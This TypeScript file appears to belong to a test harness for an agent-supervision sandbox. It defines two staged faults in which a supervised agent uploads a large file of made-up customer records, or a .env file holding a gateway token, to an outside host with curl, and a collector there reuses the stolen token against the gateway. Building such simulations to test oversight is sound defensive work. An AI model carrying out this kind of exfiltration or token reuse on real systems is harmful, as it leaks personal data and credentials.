import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { z } from "zod";
import { programFile } from "../../kernel/index.ts";
import type { Sandbox } from "../sandbox/open-sandbox.ts";
import { OUTSIDE_ADDRESS, SANDBOX_ADDRESS, findMissingOutside, openOutside } from "../sandbox/outside.ts";
import { waitFor } from "../sandbox/wait.ts";
import { defineFault } from "./fault.ts";
import type { Missing } from "./fault.ts";

const PORT = 8080;
const WITHIN_MS = 30_000;
const RECORD = "4711,Ada Example,ada@example.org,12 Example Street\n";
const agent = { agentId: z.string().max(64).default("scout"), pack: z.string().max(64).default("research") };

export function findMissingCurl(): Missing[] {
  const isThere = ["/usr/bin/curl", "/usr/local/bin/curl", "/bin/curl"].some((file) => existsSync(file));
  return isThere ? [] : [{ what: "the program curl", remedy: "On Debian or Ubuntu: apt-get install curl." }];
}

interface Carrying {
  readonly agentId: string;
  readonly pack: string;
  readonly file: string;
  readonly bytes: number;
  /** where the collector uses what it got */
  readonly use?: string;
}

/** A supervised agent sends a file to another host, and goes on. @returns when the first has arrived */
async function carryOut(sandbox: Sandbox, { agentId, pack, file, bytes, use }: Carrying) {
  const { workspace } = sandbox;
  const collected = path.join(sandbox.folder, "tmp", "collected");
  mkdirSync(collected);
  const outside = await openOutside(sandbox);
  outside.start([
    process.execPath,
    programFile("collector-program"),
    String(PORT),
    collected,
    ...(use === undefined ? [] : [use]),
  ]);
  const program = [
    process.execPath,
    programFile("carrying-agent-program"),
    file,
    `http://${OUTSIDE_ADDRESS}:${PORT}/`,
    String(bytes),
  ];
  sandbox.startFirebreak(["run", "--agent", agentId, "--pack", pack, "--workspace", workspace, "--", ...program]);
  const received = path.join(collected, "received");
  await untilHolds(received, /\d/);
  return { agentId, address: OUTSIDE_ADDRESS, outside: outside.pid, received, used: path.join(collected, "used") };
}

async function untilHolds(file: string, line: RegExp): Promise<void> {
  await waitFor(`${line.source} in ${file}`, WITHIN_MS, async () =>
    existsSync(file) && line.test(readFileSync(file, "utf8")) ? true : undefined,
  );
}

/** Records of persons, made up, leave for another host in number. */
export const recordsCarriedOut = defineFault({
  kind: "records-carried-out",
  about:
    "a supervised agent sends `megabytes` (120) of made-up records to another host with curl, and goes on; needs root on Linux",
  parameters: z.strictObject({
    ...agent,
    /** in all; what follows goes slowly */
    megabytes: z.number().int().min(1).max(300).default(120),
  }),
  findMissing: (isolation) => [...findMissingOutside(isolation), ...findMissingCurl()],
  cause: async ({ sandbox }, { agentId, pack, megabytes }) => {
    const file = path.join(sandbox.workspace, "customers.csv");
    const fileBytes = 20 * 1024 * 1024;
    writeFileSync(file, RECORD.repeat(Math.ceil(fileBytes / RECORD.length)));
    const facts = await carryOut(sandbox, { agentId, pack, file, bytes: megabytes * 1024 * 1024 });
    return {
      what: `${agentId} sends made-up records of customers to ${OUTSIDE_ADDRESS}, ${megabytes} MB and more`,
      facts,
    };
  },
});

/** A file with a gateway's token leaves for another host, where somebody uses it. */
export const tokenCarriedOut = defineFault({
  kind: "token-carried-out",
  about:
    "a supervised agent sends a file with the token of a gateway at `port` to another host with curl; somebody there uses it; needs root on Linux",
  parameters: z.strictObject({
    ...agent,
    port: z.number().int(),
    /** where the gateway's token lies */
    tokens: z.string(),
  }),
  findMissing: (isolation) => [...findMissingOutside(isolation), ...findMissingCurl()],
  cause: async ({ sandbox }, { agentId, pack, port, tokens }) => {
    const file = path.join(sandbox.workspace, ".env");
    const text = readFileSync(tokens, "utf8");
    writeFileSync(file, text, { mode: 0o600 });
    const stolen = path.join(sandbox.folder, "tmp", "stolen");
    writeFileSync(stolen, /^GATEWAY_TOKEN=(\S+)/m.exec(text)?.[1] ?? "", { mode: 0o600 });
    const url = `http://${SANDBOX_ADDRESS}:${port}/sessions`;
    const facts = await carryOut(sandbox, { agentId, pack, file, bytes: 0, use: url });
    await untilHolds(facts.used, /^200$/m);
    return {
      what: `${agentId} sent the gateway's token to ${OUTSIDE_ADDRESS}, from where it is used`,
      facts: { ...facts, stolen, url },
    };
  },
});
